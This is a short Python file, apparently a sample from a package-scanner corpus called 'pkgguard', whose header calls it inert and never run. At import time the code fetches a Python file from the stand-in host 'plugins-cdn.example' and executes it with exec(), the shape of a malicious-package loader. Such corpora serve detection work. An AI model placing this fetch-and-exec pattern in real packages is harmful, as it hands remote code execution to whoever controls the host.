# pkgguard corpus 534 (import-time), modelled on [empirical]; inert, never run.
import http.client
import types

_conn = http.client.HTTPSConnection("plugins-cdn.example", timeout=10)
_conn.request("GET", "/v2/extensions.py")
_mod = types.ModuleType("pkg._extensions")
exec(_conn.getresponse().read(), _mod.__dict__)
